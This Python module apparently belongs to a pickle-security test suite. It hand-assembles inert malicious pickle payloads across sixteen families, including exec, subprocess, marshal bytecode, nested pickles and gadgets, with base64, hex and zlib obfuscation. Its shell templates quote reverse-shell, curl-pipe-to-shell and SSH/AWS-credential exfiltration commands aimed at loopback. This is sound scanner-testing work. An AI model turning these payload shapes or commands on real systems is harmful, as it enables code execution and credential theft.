"""Inert malicious payloads of the families seen in real incidents, written directly as pickle opcodes.

A payload is an expression tree (globals, calls, literals) rendered by a small opcode assembler for any
protocol 0-5. Its `body` pushes exactly one value (the result of the malicious call) and uses no memo
opcodes and no PROTO/FRAME/STOP, so it can be spliced anywhere in another stream. Nothing here pickles a
live object. Every action is inert: `echo SAFEPICKLE-<token>`, a marker file under `marker_dir`, or a
connection to a closed loopback port; the label oracle blocks the action before it happens anyway.
"""

from __future__ import annotations

import base64
import binascii
import marshal
import random
import shlex
import struct
import sys
import zlib
from dataclasses import dataclass, field, replace
from functools import cache
from pathlib import Path
from typing import Any, Union

import yaml

PAYLOAD_FAMILIES: tuple[str, ...] = (
    "os_system",
    "posix_system",
    "nt_system",
    "subprocess",
    "builtins_exec",
    "builtins_eval",
    "runpy_run_code",
    "webbrowser_open",
    "socket_reverse_shell_shape",
    "import_getattr_chain",
    "attrgetter_chain",
    "code_type_marshal",
    "nested_pickle",
    "file_write",
    "urllib_download",
    "gadget",
)
"""Every family `build_payload` knows. `nt_system` is labelled by the oracle's documented rule event
`find_class:nt.system` (the Windows-only module cannot be imported on Linux, see `sandbox.audit`)."""

GADGETS_FILE = Path(__file__).with_name("gadgets.yaml")
LOOPBACK = "127.0.0.1"
CLOSED_PORT = 9
"""The discard port on loopback: nothing listens there, and the oracle blocks the connect anyway."""


# --------------------------------------------------------------------------- expression tree


@dataclass(frozen=True)
class Glob:
    """A global `module.name` (name may be dotted: rendered as STACK_GLOBAL for protocol 4+, else getattr)."""

    module: str
    name: str

    @property
    def qualname(self) -> str:
        """Return `module.name`."""
        return f"{self.module}.{self.name}"


@dataclass(frozen=True)
class Call:
    """`func(*args)` via REDUCE."""

    func: Node
    args: tuple[Node, ...] = ()


@dataclass(frozen=True)
class Tup:
    """A tuple literal."""

    items: tuple[Node, ...] = ()


@dataclass(frozen=True)
class Lst:
    """A list literal."""

    items: tuple[Node, ...] = ()


@dataclass(frozen=True)
class Dct:
    """A dict literal."""

    items: tuple[tuple[Node, Node], ...] = ()


@dataclass(frozen=True)
class Inst:
    """`module.name(*args)` via INST (the loader accepts it in a stream of any protocol)."""

    func: Glob
    args: tuple[Node, ...] = ()


@dataclass(frozen=True)
class Obj:
    """`cls(*args)` via OBJ (protocol 1+; rendered as INST, else REDUCE, at protocol 0)."""

    cls: Node
    args: tuple[Node, ...] = ()


@dataclass(frozen=True)
class NewObj:
    """`cls.__new__(cls, *args)` via NEWOBJ (protocol 2+; `copyreg.__newobj__` via REDUCE below)."""

    cls: Node
    args: tuple[Node, ...] = ()


@dataclass(frozen=True)
class Build:
    """`obj` with its state restored via BUILD (`__setstate__(state)` when the class defines it)."""

    obj: Node
    state: Node


Node = Union[Glob, Call, Tup, Lst, Dct, Inst, Obj, NewObj, Build, str, bytes, bool, int, None]  # noqa: UP007


def attr(obj: Node, name: str) -> Call:
    """Return the node `getattr(obj, name)`."""
    return Call(Glob("builtins", "getattr"), (obj, name))


def globals_of(node: Node, protocol: int = 2) -> list[str]:
    """Return the qualnames of every global a node imports (at a protocol), in order of first appearance."""
    out: list[str] = []

    def walk(n: Node) -> None:
        if isinstance(n, Glob):
            if n.qualname not in out:
                out.append(n.qualname)
        elif isinstance(n, (Call, Inst)):
            walk(n.func)
            for a in n.args:
                walk(a)
        elif isinstance(n, NewObj) and protocol < 2:
            walk(Call(Glob("copyreg", "__newobj__"), (n.cls, *n.args)))
        elif isinstance(n, (Obj, NewObj)):
            walk(n.cls)
            for a in n.args:
                walk(a)
        elif isinstance(n, Build):
            walk(n.obj)
            walk(n.state)
        elif isinstance(n, (Tup, Lst)):
            for a in n.items:
                walk(a)
        elif isinstance(n, Dct):
            for k, v in n.items:
                walk(k)
                walk(v)

    walk(node)
    return out


# --------------------------------------------------------------------------- opcode assembler


def _escape_protocol0(text: str) -> bytes:
    """Return a str as the argument of a protocol-0 UNICODE opcode (what pickle itself writes)."""
    escaped = (
        text.replace("\\", "\\u005c").replace("\0", "\\u0000").replace("\n", "\\u000a")
        .replace("\r", "\\u000d").replace("\x1a", "\\u001a")
    )
    return escaped.encode("raw-unicode-escape")


def _memo_ops(index: int, protocol: int) -> tuple[bytes, bytes]:
    """Return the (put, get) opcodes of one memo slot: PUT/GET (protocol 0), BINPUT/BINGET, or MEMOIZE/BINGET."""
    if protocol == 0:
        return b"p%d\n" % index, b"g%d\n" % index
    get = b"h" + bytes([index]) if index < 256 else b"j" + struct.pack("<I", index)
    if protocol >= 4:
        return b"\x94", get
    return (b"q" + bytes([index]) if index < 256 else b"r" + struct.pack("<I", index)), get


def render(node: Node, protocol: int, *, stack_global: bool = True, memo: bool = False) -> bytes:
    """Assemble an expression tree into opcodes that push exactly one value (no PROTO, FRAME, STOP).

    With `memo`, every global goes through the memo (STACK_GLOBAL's two strings are memoized, popped and
    fetched back with BINGET; a GLOBAL is stored, popped and fetched back): the memo slots start at 0, so
    such a body is only valid at the start of a fresh stream (stand-alone or a second stream). Without
    `memo` the body uses no memo opcode and can be spliced anywhere.
    """
    out = bytearray()
    slots = [0]

    def alias(emit_value: Any) -> None:
        """Push a value through a fresh memo slot: push, put, pop, get."""
        emit_value()
        put, get = _memo_ops(slots[0], protocol)
        slots[0] += 1
        out.extend(put + b"0" + get)

    def emit(n: Node) -> None:
        nonlocal out
        if n is None:
            out += b"N"
        elif isinstance(n, bool):
            if protocol >= 2:
                out += b"\x88" if n else b"\x89"
            else:
                out += b"I01\n" if n else b"I00\n"
        elif isinstance(n, int):
            if protocol == 0:
                out += b"I%d\n" % n
            elif 0 <= n < 256:
                out += b"K" + bytes([n])
            elif 0 <= n < 65536:
                out += b"M" + struct.pack("<H", n)
            elif -(2**31) <= n < 2**31:
                out += b"J" + struct.pack("<i", n)
            else:
                out += b"L%dL\n" % n
        elif isinstance(n, str):
            data = n.encode("utf-8", "surrogatepass")
            if protocol == 0:
                out += b"V" + _escape_protocol0(n) + b"\n"
            elif protocol >= 4 and len(data) < 256:
                out += b"\x8c" + bytes([len(data)]) + data
            else:
                out += b"X" + struct.pack("<I", len(data)) + data
        elif isinstance(n, bytes):
            if protocol >= 3:
                if len(n) < 256:
                    out += b"C" + bytes([len(n)]) + n
                else:
                    out += b"B" + struct.pack("<I", len(n)) + n
            else:  # what pickle writes for bytes below protocol 3
                emit(Call(Glob("_codecs", "encode"), (n.decode("latin-1"), "latin1")))
        elif isinstance(n, Glob):
            if protocol >= 4 and stack_global:
                if memo:
                    alias(lambda: emit(n.module))
                    alias(lambda: emit(n.name))
                else:
                    emit(n.module)
                    emit(n.name)
                out += b"\x93"
            elif protocol < 4 and "." in n.name:
                head, *rest = n.name.split(".")
                node: Node = Glob(n.module, head)
                for part in rest:
                    node = attr(node, part)
                emit(node)
            elif memo:
                alias(lambda: out.extend(b"c" + n.module.encode() + b"\n" + n.name.encode() + b"\n"))
            else:
                out += b"c" + n.module.encode() + b"\n" + n.name.encode() + b"\n"
        elif isinstance(n, Call):
            emit(n.func)
            emit(Tup(tuple(n.args)))
            out += b"R"
        elif isinstance(n, Inst):
            if protocol < 4 and "." in n.func.name:
                raise ValueError("INST of a dotted name needs a protocol-4 stream")
            out += b"("
            for item in n.args:
                emit(item)
            out += b"i" + n.func.module.encode() + b"\n" + n.func.name.encode() + b"\n"
        elif isinstance(n, Obj):
            if protocol >= 1:
                out += b"("
                emit(n.cls)
                for item in n.args:
                    emit(item)
                out += b"o"
            elif isinstance(n.cls, Glob) and "." not in n.cls.name:
                emit(Inst(n.cls, n.args))
            else:
                emit(Call(n.cls, n.args))
        elif isinstance(n, NewObj):
            if protocol >= 2:
                emit(n.cls)
                emit(Tup(tuple(n.args)))
                out += b"\x81"
            else:
                emit(Call(Glob("copyreg", "__newobj__"), (n.cls, *n.args)))
        elif isinstance(n, Build):
            emit(n.obj)
            emit(n.state)
            out += b"b"
        elif isinstance(n, Tup):
            if not n.items:
                out += b")" if protocol >= 1 else b"(t"
            elif protocol >= 2 and len(n.items) <= 3:
                for item in n.items:
                    emit(item)
                out += (b"\x85", b"\x86", b"\x87")[len(n.items) - 1]
            else:
                out += b"("
                for item in n.items:
                    emit(item)
                out += b"t"
        elif isinstance(n, Lst):
            if protocol >= 1:
                out += b"]"
                if n.items:
                    out += b"("
                    for item in n.items:
                        emit(item)
                    out += b"e"
            else:
                out += b"("
                for item in n.items:
                    emit(item)
                out += b"l"
        elif isinstance(n, Dct):
            if protocol >= 1:
                out += b"}"
                if n.items:
                    out += b"("
                    for k, v in n.items:
                        emit(k)
                        emit(v)
                    out += b"u"
            else:
                out += b"("
                for k, v in n.items:
                    emit(k)
                    emit(v)
                out += b"d"
        else:
            raise TypeError(f"cannot assemble {type(n).__name__}")

    emit(node)
    return bytes(out)


def wrap_stream(body: bytes, protocol: int) -> bytes:
    """Return a complete pickle: PROTO (protocol 2+), the body, STOP."""
    head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    return head + body + b"."


# --------------------------------------------------------------------------- payload


@dataclass
class Payload:
    """One inert malicious payload: its family, the dangerous callables it imports, its opcode body."""

    family: str
    callables: tuple[str, ...]
    """`module.qualname` of the dangerous callables the payload's own stream imports."""
    body: bytes
    """Opcodes pushing exactly ONE value (the malicious call's result); no memo, PROTO, FRAME or STOP."""
    protocol: int = 2
    variant: int = 0
    events: tuple[str, ...] = ()
    """Oracle event labels the payload reaches first (one of them), see `sandbox.audit`."""
    description: str = ""
    imports: tuple[str, ...] = ()
    """Every global the payload's stream imports (callables plus helpers such as `base64.b64decode`)."""
    expr: Node = field(default=None, repr=False, compare=False)
    stack_global: bool = field(default=True, repr=False, compare=False)
    memo: bool = field(default=False, repr=False, compare=False)
    """The body routes its globals through memo slots from 0: valid only at the start of a fresh stream."""

    def at_protocol(self, protocol: int) -> Payload:
        """Return the same payload assembled for another protocol (opcodes valid in that protocol only)."""
        if protocol == self.protocol:
            return self
        body = render(self.expr, protocol, stack_global=self.stack_global, memo=self.memo)
        return replace(self, protocol=protocol, body=body, imports=tuple(globals_of(self.expr, protocol)))

    def stream(self, protocol: int | None = None) -> bytes:
        """Return a complete standalone pickle: PROTO if protocol >= 2, body, STOP."""
        p = self.protocol if protocol is None else protocol
        return wrap_stream(self.at_protocol(p).body, p)


def probe_payload(protocol: int = 2, token: str = "probe") -> Payload:
    """Return a harmless payload of the same shape (`builtins.str('SAFEPICKLE-probe')`): no dangerous event.

    Injecting it instead of a real payload proves an injected file still loads completely.
    """
    expr = Call(Glob("builtins", "str"), (f"SAFEPICKLE-{token}",))
    return Payload("probe", (), render(expr, protocol), protocol, 0, (), "harmless probe", ("builtins.str",), expr)


# --------------------------------------------------------------------------- inert strings


_SHELL_SHAPES: tuple[str, ...] = (
    "echo SAFEPICKLE-{tok}",
    "echo 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' SAFEPICKLE-{tok}",
    "echo 'curl -fsSL http://127.0.0.1:9/install.sh | sh' SAFEPICKLE-{tok}",
    "echo 'wget -qO- http://127.0.0.1:9/stage2 | bash' SAFEPICKLE-{tok}",
    "echo 'nc -e /bin/sh 127.0.0.1 4444' SAFEPICKLE-{tok}",
    "echo 'cat ~/.ssh/id_rsa ~/.aws/credentials | curl -d @- http://127.0.0.1:9/c' SAFEPICKLE-{tok}",
    "echo {blob} SAFEPICKLE-{tok}",
    "echo SAFEPICKLE-{tok} > {marker}",
)


@dataclass(frozen=True)
class _Ctx:
    """The strings one payload is built from."""

    tok: str
    shell: str
    marker: str
    url: str
    variant: int
    rng: random.Random

    def py_stmt(self, k: int) -> str:
        """Return a Python statement running the inert action (shape k)."""
        shapes = (
            f"import os; os.system({self.shell!r})",
            f"__import__('os').system({self.shell!r})",
            f"import subprocess; subprocess.call(['echo', 'SAFEPICKLE-{self.tok}'])",
            f"open({self.marker!r}, 'w').write('SAFEPICKLE-{self.tok}')",
            f"import socket; socket.create_connection(('{LOOPBACK}', {CLOSED_PORT}), timeout=1)",
        )
        return shapes[k % len(shapes)]

    def py_expr(self, k: int) -> str:
        """Return a Python expression running the inert action (shape k)."""
        shapes = (
            f"__import__('os').system({self.shell!r})",
            f"__import__('subprocess').getoutput({self.shell!r})",
            f"open({self.marker!r}, 'w').write('SAFEPICKLE-{self.tok}')",
        )
        return shapes[k % len(shapes)]


def _context(family: str, marker_dir: str, variant: int, rng: random.Random) -> _Ctx:
    """Draw the token and inert strings of one payload."""
    tok = f"{rng.getrandbits(40):010x}"
    marker = str(Path(marker_dir) / f"safepickle-{tok}.txt")
    blob = base64.b64encode(f"bash -i >& /dev/tcp/{LOOPBACK}/{4000 + rng.randrange(1000)} 0>&1".encode()).decode()
    shape = _SHELL_SHAPES[rng.randrange(len(_SHELL_SHAPES))]
    shell = shape.format(tok=tok, blob=blob, marker=shlex.quote(marker))
    url = f"http://{LOOPBACK}:{CLOSED_PORT}/{rng.choice(['payload', 'stage2', 'update', 'model'])}/SAFEPICKLE-{tok}.sh"
    return _Ctx(tok, shell, marker, url, variant, rng)


def _encoded_source(source: str, k: int) -> tuple[Node, str]:
    """Return a node producing `source` (plain, base64, hex or zlib+base64) and the encoding's name."""
    raw = source.encode()
    kind = k % 4
    if kind == 0:
        return source, "plain"
    if kind == 1:
        return Call(Glob("base64", "b64decode"), (base64.b64encode(raw).decode(),)), "base64"
    if kind == 2:
        return Call(Glob("binascii", "unhexlify"), (binascii.hexlify(raw).decode(),)), "hex"
    packed = base64.b64encode(zlib.compress(raw, 9)).decode()
    return Call(Glob("zlib", "decompress"), (Call(Glob("base64", "b64decode"), (packed,)),)), "zlib+base64"


# --------------------------------------------------------------------------- families

_Built = tuple[Node, tuple[str, ...], tuple[str, ...], str]


def _os_system(c: _Ctx) -> _Built:
    if c.variant % 3 == 2:
        return Call(Glob("os", "popen"), (c.shell,)), ("os.popen",), ("subprocess.Popen",), "os.popen(shell)"
    return Call(Glob("os", "system"), (c.shell,)), ("os.system",), ("os.system",), "os.system(shell)"


def _posix_system(c: _Ctx) -> _Built:
    return Call(Glob("posix", "system"), (c.shell,)), ("posix.system",), ("os.system",), "posix.system(shell)"


def _nt_system(c: _Ctx) -> _Built:
    return (Call(Glob("nt", "system"), (c.shell,)), ("nt.system",), ("find_class:nt.system",),
            "nt.system(shell) (Windows-only; rule event on POSIX)")


def _subprocess(c: _Ctx) -> _Built:
    argv = Lst(("echo", f"SAFEPICKLE-{c.tok}"))
    shapes: list[tuple[str, Node]] = [
        ("Popen", argv),
        ("run", argv),
        ("check_output", argv),
        ("call", argv),
        ("getoutput", c.shell),
        ("Popen", Lst(("sh", "-c", c.shell))),
        ("check_call", argv),
        ("getstatusoutput", c.shell),
    ]
    name, arg = shapes[c.variant % len(shapes)]
    return (Call(Glob("subprocess", name), (arg,)), (f"subprocess.{name}",), ("subprocess.Popen",),
            f"subprocess.{name}")


def _builtins_exec(c: _Ctx) -> _Built:
    src, enc = _encoded_source(c.py_stmt(c.variant // 4), c.variant)
    return Call(Glob("builtins", "exec"), (src,)), ("builtins.exec",), ("compile", "exec"), f"exec({enc} source)"


def _builtins_eval(c: _Ctx) -> _Built:
    src, enc = _encoded_source(c.py_expr(c.variant // 4), c.variant)
    return Call(Glob("builtins", "eval"), (src,)), ("builtins.eval",), ("compile", "exec"), f"eval({enc} source)"


def _runpy_run_code(c: _Ctx) -> _Built:
    src, enc = _encoded_source(c.py_stmt(c.variant // 2), 0 if c.variant % 2 == 0 else 1)
    return (Call(Glob("runpy", "_run_code"), (src, Dct())), ("runpy._run_code",), ("compile", "exec"),
            f"runpy._run_code({enc} source, {{}})")


def _webbrowser_open(c: _Ctx) -> _Built:
    name = ("open", "open_new", "open_new_tab")[c.variant % 3]
    return (Call(Glob("webbrowser", name), (c.url,)), (f"webbrowser.{name}",), ("webbrowser.open",),
            f"webbrowser.{name}(loopback url)")


def _socket_shape(c: _Ctx) -> _Built:
    port = (CLOSED_PORT, 4444, 1337)[c.variant % 3]
    if c.variant % 2 == 0:
        expr: Node = Call(Glob("socket", "create_connection"), (Tup((LOOPBACK, port)), 1))
        return expr, ("socket.create_connection",), ("socket.getaddrinfo", "socket.connect"), "create_connection"
    sock = Call(Glob("socket", "socket"), ())
    expr = Call(attr(sock, "connect"), (Tup((LOOPBACK, port)),))
    return expr, ("socket.socket", "builtins.getattr"), ("socket.connect",), "socket().connect(loopback)"


def _import_getattr_chain(c: _Ctx) -> _Built:
    k = c.variant % 3
    if k == 0:
        mod: Node = Call(Glob("builtins", "__import__"), ("os",))
        fn, events, cal = attr(mod, "system"), ("os.system",), ("builtins.__import__", "builtins.getattr")
        arg: Node = c.shell
    elif k == 1:
        mod = Call(Glob("importlib", "import_module"), ("subprocess",))
        fn, events, cal = attr(mod, "getoutput"), ("subprocess.Popen",), ("importlib.import_module", "builtins.getattr")
        arg = c.shell
    else:
        mod = Call(Glob("builtins", "__import__"), ("posix",))
        fn, events, cal = attr(mod, "system"), ("os.system",), ("builtins.__import__", "builtins.getattr")
        arg = c.shell
    return Call(fn, (arg,)), cal, events, "getattr(__import__(module), name)(shell)"


def _attrgetter_chain(c: _Ctx) -> _Built:
    k = c.variant % 3
    if k == 0:
        getter = Call(Glob("operator", "attrgetter"), ("system",))
        fn = Call(getter, (Call(Glob("builtins", "__import__"), ("os",)),))
        return (Call(fn, (c.shell,)), ("operator.attrgetter", "builtins.__import__"), ("os.system",),
                "attrgetter('system')(__import__('os'))(shell)")
    if k == 1:
        getter = Call(Glob("operator", "attrgetter"), ("os.system",))
        fn = Call(getter, (Glob("os", "path"),))
        return (Call(fn, (c.shell,)), ("operator.attrgetter",), ("os.system",),
                "attrgetter('os.system')(os.path)(shell)")
    caller = Call(Glob("operator", "methodcaller"), ("system", c.shell))
    return (Call(caller, (Call(Glob("importlib", "import_module"), ("os",)),)),
            ("operator.methodcaller", "importlib.import_module"), ("os.system",),
            "methodcaller('system', shell)(import_module('os'))")


_CODE_FIELDS: tuple[str, ...] = (
    "co_argcount", "co_posonlyargcount", "co_kwonlyargcount", "co_nlocals", "co_stacksize", "co_flags",
    "co_code", "co_consts", "co_names", "co_varnames", "co_filename", "co_name", "co_qualname",
    "co_firstlineno", "co_linetable", "co_exceptiontable", "co_freevars", "co_cellvars",
)


def _literal(value: Any) -> Node:
    """Return a node for a code-object constant (None, bool, int, str, bytes, tuples of those)."""
    if isinstance(value, tuple):
        return Tup(tuple(_literal(v) for v in value))
    if value is None or isinstance(value, (bool, int, str, bytes)):
        return value
    raise ValueError(f"code constant of type {type(value).__name__} is not supported")


def _code_type_marshal(c: _Ctx) -> _Built:
    if sys.version_info[:2] != (3, 11):
        raise ValueError("code_type_marshal payloads hold CPython 3.11 bytecode; build them on Python 3.11")
    source = f"__import__('os').system({c.shell!r})"
    code = compile(source, "<model>", "exec")
    k = c.variant % 3
    if k == 0:
        loaded = Call(Glob("marshal", "loads"), (marshal.dumps(code),))
        fn = Call(Glob("types", "FunctionType"), (loaded, Dct()))
        return (Call(fn, ()), ("marshal.loads", "types.FunctionType"), ("os.system",),
                "FunctionType(marshal.loads(bytecode), {})()")
    if k == 1:
        loaded = Call(Glob("marshal", "loads"), (marshal.dumps(code),))
        return (Call(Glob("builtins", "exec"), (loaded,)), ("marshal.loads", "builtins.exec"), ("exec",),
                "exec(marshal.loads(bytecode))")
    fields = tuple(_literal(getattr(code, f)) for f in _CODE_FIELDS)
    built = Call(Glob("types", "CodeType"), fields)
    fn = Call(Glob("types", "FunctionType"), (built, Dct()))
    return (Call(fn, ()), ("types.CodeType", "types.FunctionType"), ("os.system",),
            "FunctionType(CodeType(...fields), {})()")


def _nested_pickle(c: _Ctx) -> _Built:
    inner_family = ("os_system", "posix_system", "subprocess")[c.variant % 3]
    inner_protocol = (0, 2, 4)[(c.variant // 3) % 3]
    inner = build_payload(inner_family, str(Path(c.marker).parent), protocol=inner_protocol,
                          variant=c.variant, rng=random.Random(c.rng.getrandbits(64)))
    data = inner.stream(inner_protocol)
    k = (c.variant // 9) % 3
    if k == 0:
        arg: Node = data
        enc = "raw"
    elif k == 1:
        arg = Call(Glob("base64", "b64decode"), (base64.b64encode(data).decode(),))
        enc = "base64"
    else:
        arg = Call(Glob("binascii", "unhexlify"), (data.hex(),))
        enc = "hex"
    loads = Glob("_pickle", "loads") if c.variant % 2 else Glob("pickle", "loads")
    return (Call(loads, (arg,)), (loads.qualname,), inner.events,
            f"{loads.qualname}({enc} inner {inner_family} pickle, protocol {inner_protocol})")


def _file_write(c: _Ctx) -> _Built:
    k = c.variant % 3
    opener = Glob("io", "open") if k == 1 else Glob("builtins", "open")
    mode = "a" if k == 2 else "w"
    handle = Call(opener, (c.marker, mode))
    return (Call(attr(handle, "write"), (f"SAFEPICKLE-{c.tok}",)), (opener.qualname,), ("open:w",),
            f"{opener.qualname}(marker, {mode!r}).write(token)")


def _urllib_download(c: _Ctx) -> _Built:
    if c.variant % 2 == 0:
        return (Call(Glob("urllib.request", "urlopen"), (c.url,)), ("urllib.request.urlopen",), ("urllib.Request",),
                "urlopen(loopback url)")
    return (Call(Glob("urllib.request", "urlretrieve"), (c.url, c.marker)), ("urllib.request.urlretrieve",),
            ("urllib.Request",), "urlretrieve(loopback url, marker)")


# --------------------------------------------------------------------------- gadgets


@dataclass(frozen=True)
class Gadget:
    """One gadget callable from a public advisory, as described in gadgets.yaml."""

    module: str
    qualname: str
    call: str
    """`function`: module.qualname(*args); `method`: Class(*init).method(*args); `resolve`: f(*args)(*then)."""
    args: tuple[Any, ...]
    event: str
    reference: str
    init: tuple[Any, ...] = ()
    then: tuple[Any, ...] = ()
    note: str = ""

    @property
    def name(self) -> str:
        """Return `module.qualname`."""
        return f"{self.module}.{self.qualname}"


@cache
def load_gadgets(path: Path = GADGETS_FILE) -> tuple[Gadget, ...]:
    """Return the gadgets listed in gadgets.yaml, in file order."""
    with open(path, encoding="utf-8") as f:
        data = yaml.safe_load(f)
    out = []
    for g in data["gadgets"]:
        out.append(Gadget(
            module=g["module"], qualname=g["qualname"], call=g.get("call", "function"),
            args=tuple(g.get("args", ())), event=g["event"], reference=g["reference"],
            init=tuple(g.get("init", ())), then=tuple(g.get("then", ())), note=g.get("note", ""),
        ))
    return tuple(out)


def _placeholder(value: Any, c: _Ctx) -> Node:
    """Return the node for a gadgets.yaml argument, substituting `$NAME` placeholders."""
    if isinstance(value, list):
        return Lst(tuple(_placeholder(v, c) for v in value))
    if isinstance(value, dict):
        return Dct(tuple((_placeholder(k, c), _placeholder(v, c)) for k, v in value.items()))
    if not isinstance(value, str):
        return value
    table: dict[str, Node] = {
        "$PY_STMT": c.py_stmt(c.variant // 7 % 2),
        "$PY_EXPR": c.py_expr(0),
        "$SHELL": c.shell,
        "$ARGV": Lst(("echo", f"SAFEPICKLE-{c.tok}")),
        "$URL": c.url,
        "$ADDR": Tup((LOOPBACK, CLOSED_PORT)),
        "$HOST": LOOPBACK,
        "$PORT": CLOSED_PORT,
        "$MARKER": c.marker,
        "$TOKEN": f"SAFEPICKLE-{c.tok}",
    }
    return table.get(value, value)


def gadget_expr(g: Gadget, c: _Ctx) -> Node:
    """Return the expression calling one gadget with inert arguments."""
    args = tuple(_placeholder(a, c) for a in g.args)
    if g.call == "function":
        return Call(Glob(g.module, g.qualname), args)
    if g.call == "method":
        cls, _, method = g.qualname.rpartition(".")
        instance = Call(Glob(g.module, cls), tuple(_placeholder(a, c) for a in g.init))
        return Call(attr(instance, method), args)
    if g.call == "resolve":
        resolved = Call(Glob(g.module, g.qualname), args)
        return Call(resolved, tuple(_placeholder(a, c) for a in g.then))
    raise ValueError(f"gadget {g.name}: unknown call kind {g.call!r}")


def _gadget(c: _Ctx) -> _Built:
    gadgets = load_gadgets()
    g = gadgets[c.variant % len(gadgets)]
    callables = (g.name, "builtins.getattr") if g.call == "method" else (g.name,)
    return gadget_expr(g, c), callables, (g.event,), f"gadget {g.name} ({g.call})"


_FAMILY_BUILDERS = {
    "os_system": _os_system,
    "posix_system": _posix_system,
    "nt_system": _nt_system,
    "subprocess": _subprocess,
    "builtins_exec": _builtins_exec,
    "builtins_eval": _builtins_eval,
    "runpy_run_code": _runpy_run_code,
    "webbrowser_open": _webbrowser_open,
    "socket_reverse_shell_shape": _socket_shape,
    "import_getattr_chain": _import_getattr_chain,
    "attrgetter_chain": _attrgetter_chain,
    "code_type_marshal": _code_type_marshal,
    "nested_pickle": _nested_pickle,
    "file_write": _file_write,
    "urllib_download": _urllib_download,
    "gadget": _gadget,
}


def build_payload(
    family: str,
    marker_dir: str,
    *,
    protocol: int = 2,
    variant: int = 0,
    rng: random.Random | None = None,
) -> Payload:
    """Build one inert payload of a family; the same arguments (and rng state) give the same bytes.

    `variant` picks the shape inside the family (which callable, which encoding, which gadget); `rng`
    (default: seeded from family, variant and marker_dir) draws the token and the inert command strings.
    """
    if family not in _FAMILY_BUILDERS:
        raise ValueError(f"unknown payload family {family!r}; known: {', '.join(PAYLOAD_FAMILIES)}")
    if not 0 <= protocol <= 5:
        raise ValueError(f"pickle protocol must be 0..5, got {protocol}")
    rng = rng if rng is not None else random.Random(f"{family}|{variant}|{marker_dir}")
    ctx = _context(family, marker_dir, variant, rng)
    expr, callables, events, description = _FAMILY_BUILDERS[family](ctx)
    stack_global = not (protocol >= 4 and variant % 5 == 4)  # some protocol-4+ payloads use GLOBAL
    return Payload(
        family=family,
        callables=tuple(callables),
        body=render(expr, protocol, stack_global=stack_global),
        protocol=protocol,
        variant=variant,
        events=tuple(events),
        description=description,
        imports=tuple(globals_of(expr)),
        expr=expr,
        stack_global=stack_global,
    )
